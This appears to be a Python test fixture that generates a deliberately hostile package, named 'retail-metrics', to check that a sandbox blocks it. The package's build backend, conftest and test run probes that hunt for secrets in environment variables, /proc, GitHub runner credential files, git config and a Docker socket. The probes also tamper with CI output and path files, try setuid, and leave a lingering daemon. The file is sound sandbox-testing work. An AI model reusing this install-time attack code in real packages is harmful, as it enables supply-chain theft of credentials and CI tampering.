"""A project that takes whatever it can get while it is checked, to show that it gets nothing.

For tests and for `make image`. Where it looks there must be something marked to be found: variables, files,
a stand-in for Docker's socket. It prints `LOOT KIND in PLACE` for what it got, and `TRIED` when it tried all.
"""

from __future__ import annotations

import re
import socket
import textwrap
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

SECRET = {"MY_SECRET": "marked-environ"}
"""A variable of the run that the project looks for."""

ATTACK = r"""
import glob, os, signal, socket, subprocess, sys, time

PLACES = ["/", "/etc", "/opt", "/usr/local/bin", "/github/workspace", "/github/runner_temp"]

def environment():
    return any("marked" in value for value in os.environ.values())

def processes():
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            if b"marked-environ" in open(path, "rb").read():
                return True
        except OSError:
            pass

def memory():
    return open("/proc/1/mem", "rb")

def descriptors():
    return os.listdir("/proc/1/fd")

def files():
    for folder, _, names in os.walk("/github"):
        for name in names:
            try:
                if b"marked" in open(os.path.join(folder, name), "rb").read():
                    return True
            except OSError:
                pass

def known_files():
    for path in ["workflow/event.json", "home/.netrc", "runner_temp/git-credentials.config"]:
        try:
            return b"marked" in open("/github/" + path, "rb").read()
        except OSError:
            pass

def git():
    said = subprocess.run(["git", "config", "--list"], capture_output=True, text=True).stdout
    return "marked" in said

def output():
    with open("/github/file_commands/output", "a") as stream:
        stream.write("outcome=pwned\n")
    return True

def path():
    with open("/github/file_commands/path", "a") as stream:
        stream.write("/tmp/evil\n")
    return True

def docker():
    for path in ("/run/docker.sock", "/var/run/docker.sock"):
        with socket.socket(socket.AF_UNIX) as client:
            client.connect(path)
            return b"marked" in client.recv(100)

def signals():
    os.kill(1, 0)
    return True

def writes():
    scratch = os.path.dirname(os.environ["HOME"])
    for folder in [*PLACES, scratch]:
        try:
            with open(os.path.join(folder, "litter"), "x"):
                return True
        except OSError:
            pass

def root():
    os.setuid(0)
    return True

def more_rights():
    return "NoNewPrivs:\t1" not in open("/proc/self/status").read()

def groups():
    return 0 in (os.getgid(), *os.getgroups())

def survivor():
    found = [open(path, "rb").read().split(b"\0") for path in glob.glob("/proc/[0-9]*/cmdline")]
    return any(b"the-daemon" in each and str(os.getpid()).encode() not in each for each in found)

ATTACKS = [environment, processes, memory, descriptors, files, known_files, git, output, path, docker]
ATTACKS += [signals, writes, root, more_rights, groups, survivor]

def leave_a_daemon(out):
    code = "import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(600)"
    argv = [sys.executable, "-c", code, "the-daemon", str(os.getpid())]
    subprocess.Popen(argv, start_new_session=True, stdout=out, stderr=out)

def attack(where, out=None):
    for one in ATTACKS:
        try:
            worked = one()
        except Exception:
            worked = False
        if worked:
            print(f"LOOT {one.__name__} in {where}", flush=True, file=out)
    leave_a_daemon(subprocess.DEVNULL)
    if "test" in where:  # elsewhere uv would wait for it, until the time is up
        leave_a_daemon(None)
    print(f"TRIED {len(ATTACKS)} in {where}", flush=True, file=out)
"""
BACKEND = r"""
import base64, hashlib, os, pathlib, sys, zipfile

sys.path.insert(0, os.getcwd())
from attack import attack

def wheel(folder, files):
    info = "retail_metrics-1.5.0.dist-info"
    files[f"{info}/METADATA"] = "Metadata-Version: 2.1\nName: retail-metrics\nVersion: 1.5.0\n"
    files[f"{info}/WHEEL"] = "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    record = ""
    for path, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record += f"{path},sha256={digest},{len(text)}\n"
    files[f"{info}/RECORD"] = record + f"{info}/RECORD,,\n"
    name = "retail_metrics-1.5.0-py3-none-any.whl"
    with zipfile.ZipFile(pathlib.Path(folder, name), "w") as archive:
        for path, text in files.items():
            archive.writestr(path, text)
    return name

def build_wheel(folder, config_settings=None, metadata_directory=None):
    attack("the build")
    return wheel(folder, {"retail_metrics/__init__.py": ""})

def build_editable(folder, config_settings=None, metadata_directory=None):
    with open("said", "w") as out:  # uv shows nothing of an installation that works
        attack("the installation", out)
    return wheel(folder, {"retail_metrics.pth": os.getcwd()})
"""
_PROJECT = {
    "attack.py": ATTACK,
    "conftest.py": 'from attack import attack\n\nprint(open("said").read())\nattack("conftest")\n',
    "test_hostile.py": 'from attack import attack\n\ndef test_it():\n    attack("a test")\n',
    "build_backend/backend.py": BACKEND,
    "pyproject.toml": """
        [build-system]
        requires = []
        build-backend = "backend"
        backend-path = ["build_backend"]
        [project]
        name = "retail-metrics"
        version = "1.5.0"
        [tool.ruff]
        extend-exclude = ["*.py"]
        [tool.pytest.ini_options]
        addopts = "-s"
    """,
}
PLACES = {"the installation", "conftest", "a test", "the build"}
KINDS = set(re.findall(r"^def (\w+)\(\):$", ATTACK, re.M))


def write_project(folder: Path) -> None:
    """Write the project into `folder`."""
    for name, text in _PROJECT.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(textwrap.dedent(text), encoding="utf-8")


def loot(log: str) -> set[str]:
    """The kinds of what it got."""
    return set(re.findall(r"LOOT (\w+) in", log))


def tried(log: str) -> set[str]:
    """The places in which it tried everything."""
    return set(re.findall(r"TRIED \d+ in ([\w ]+)", log))


@contextmanager
def docker_socket(path: Path) -> Iterator[Path]:
    """Stands in for Docker's: it tells a secret to everybody who gets through to it."""
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(path))
        path.chmod(0o666)  # as carelessly as some machines have it
        server.listen()

        def answer() -> None:
            with suppress(OSError):
                while True:
                    client, _ = server.accept()
                    with client:
                        client.sendall(b"marked-docker")

        threading.Thread(target=answer, daemon=True).start()
        yield path
        server.shutdown(socket.SHUT_RDWR)
